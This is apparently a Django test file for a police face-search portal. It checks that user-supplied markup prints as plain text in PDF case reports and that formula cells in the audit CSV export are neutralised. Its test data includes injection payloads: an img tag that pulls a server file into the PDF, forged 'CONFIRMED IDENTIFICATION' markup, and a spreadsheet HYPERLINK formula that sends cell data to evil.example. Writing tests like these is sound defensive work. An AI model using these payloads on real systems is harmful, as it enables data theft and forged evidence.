"""Findings 3 and 5 of the security review, reproduced: user markup in the PDF case report, and formulas in
the audit CSV export."""

import csv
import io
import logging
from pathlib import Path
from unittest import mock

from django.conf import settings
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from portal.models import AuditEntry, Case, CaseReport
from portal.reports.render import case_report_render
from portal.services import case_report_request
from search import pipeline
from search.enrolment import EnrolmentItem, gallery_enrol_batch, gallery_get_or_create
from search.models import ComparisonRecord, Gallery, LeadReview, ProbeEdit
from search.services import probe_submit
from tests.base import GALLERY_PROVENANCE, AgencyFixtureMixin, faces_dir, photo_bytes, sign_in

# A file the worker can read, that a report must never embed.
SECRET_FILE = Path(settings.BASE_DIR) / "manage.py"
MARKUP = {
    "image": f'<img src="{SECRET_FILE}" width="400" height="400"/>',
    "forged": '<font size="30" color="red">CONFIRMED IDENTIFICATION</font>',
    "broken": "<b>unclosed <i> tag & ampersand </para>",
    "control": "bell\x07 and escape\x1b[31m and form feed\x0c",
}


def pdf_text(report: CaseReport) -> str:
    with report.file.open("rb") as stored:
        return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(stored.read())).pages)


def pdf_image_count(report: CaseReport) -> int:
    with report.file.open("rb") as stored:
        return sum(len(page.images) for page in PdfReader(io.BytesIO(stored.read())).pages)


class ReportMarkupTests(AgencyFixtureMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.create_agencies()
        hostile = " | ".join(MARKUP.values())
        Case.objects.filter(pk=cls.case.pk).update(title=f"Robbery {MARKUP['forged']} {MARKUP['control']}")
        cls.case.refresh_from_db()
        gallery, _ = gallery_get_or_create(
            owner=cls.north,
            name=f"Bookings {MARKUP['image']}",
            legal_basis=f"Act {MARKUP['forged']}",
            **GALLERY_PROVENANCE,
        )
        gallery_enrol_batch(
            gallery=gallery,
            gallery_created=True,
            items=[EnrolmentItem(path=str(faces_dir() / "img1.jpg"), display_name=f"Alex {MARKUP['broken']}")],
        )
        cls.job = probe_submit(
            case=cls.case,
            uploaded_by=cls.alice,
            data=photo_bytes("img2.jpg"),
            original_name=f"still {MARKUP['image']}.jpg",
            justification=f"CCTV of the robbery {hostile}",
        )
        pipeline.search_job_run(job_id=cls.job.id)
        candidate = cls.job.candidates.get(rank=1)
        # The rows two-person verification leaves (search/leads.py), made directly: the report reads rows.
        now = timezone.now()
        LeadReview.objects.create(
            candidate=candidate,
            status=LeadReview.Status.CONFIRMED,
            proposed_by=cls.alice,
            proposed_at=now,
            proposal_note=MARKUP["image"],
            reviewed_by=cls.bob,
            reviewed_at=now,
            review_note=f"agreed {MARKUP['forged']}",
        )
        for examiner, role in ((cls.alice, "proposer"), (cls.bob, "verifier")):
            ComparisonRecord.objects.create(
                candidate=candidate, examiner=examiner, role=role, conclusion=MARKUP["broken"][:20], created_at=now
            )
        ProbeEdit.objects.create(
            probe=cls.job.probe,
            number=1,
            operation="crop",
            parameters={"note": MARKUP["forged"]},
            made_by=cls.alice,
            hash_before=cls.job.probe.content_hash,
            hash_after=MARKUP["image"][:64],
            created_at=now,
        )

    def make_report(self) -> CaseReport:
        with self.captureOnCommitCallbacks(execute=False):
            report = case_report_request(case=self.case, user=self.bob)
        case_report_render(report_id=report.id)
        report.refresh_from_db()
        return report

    def test_markup_in_every_user_field_prints_as_text(self):
        report = self.make_report()
        self.assertEqual(report.status, CaseReport.Status.DONE, report.error)
        text = " ".join(pdf_text(report).split())
        for name in ("image", "forged"):
            self.assertIn(" ".join(MARKUP[name].split()), text, name)
        self.assertIn("unclosed <i> tag & ampersand", text)
        self.assertNotIn("\x07", text)
        self.assertIn("bell and escape", text)

    def test_no_file_outside_the_products_storage_is_embedded(self):
        report = self.make_report()
        # The product's own images, nothing else: page 1, the lead's probe face and candidate face; the
        # search's page, the probe photo, its face and the candidate's face.
        self.assertEqual(pdf_image_count(report), 5)
        with SECRET_FILE.open("rb") as secret, report.file.open("rb") as pdf:
            self.assertNotIn(secret.read()[:200], pdf.read())

    def test_a_failed_report_shows_a_clean_message_and_can_be_made_again(self):
        with (
            mock.patch(
                "portal.reports.layout.case_report_pdf", side_effect=ValueError("paragraph parse error at <img>")
            ),
            self.assertLogs("portal.reports", logging.ERROR),
        ):
            failed = self.make_report()
        self.assertEqual(failed.status, CaseReport.Status.FAILED)
        self.assertNotIn("parse error", failed.error)
        sign_in(self.client, self.bob)
        page = self.client.get(reverse("portal:case-detail", args=[self.case.code])).content.decode()
        self.assertIn("could not be made", page)
        self.assertNotIn("parse error", page)
        self.assertNotIn("Traceback", page)
        again = self.make_report()
        self.assertEqual(again.status, CaseReport.Status.DONE)


class AuditCsvTests(AgencyFixtureMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.create_agencies()

    def test_cells_that_a_spreadsheet_would_run_are_neutralised(self):
        formulas = ['=HYPERLINK("http://evil.example?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
        from portal.audit import audit_record

        for formula in formulas:
            audit_record(action=AuditEntry.Action.CASE_OPENED, actor=self.alice, case=self.case, detail=formula)
        Case.objects.filter(pk=self.case.pk).update(number="=1+2")
        sign_in(self.client, self.bob)
        response = self.client.get(reverse("portal:audit-export"))
        rows = list(
            csv.reader(
                io.StringIO(b"".join(response.streaming_content if response.streaming else [response.content]).decode())
            )
        )
        details = [row[7] for row in rows[1:]]
        for formula in formulas:
            self.assertIn("'" + formula, details)
        self.assertIn("'=1+2", [row[5] for row in rows[1:]])
        for row in rows[1:]:
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), row)
        self.assertEqual(rows[0][0], "id")
        self.assertFalse(Gallery.objects.exists())
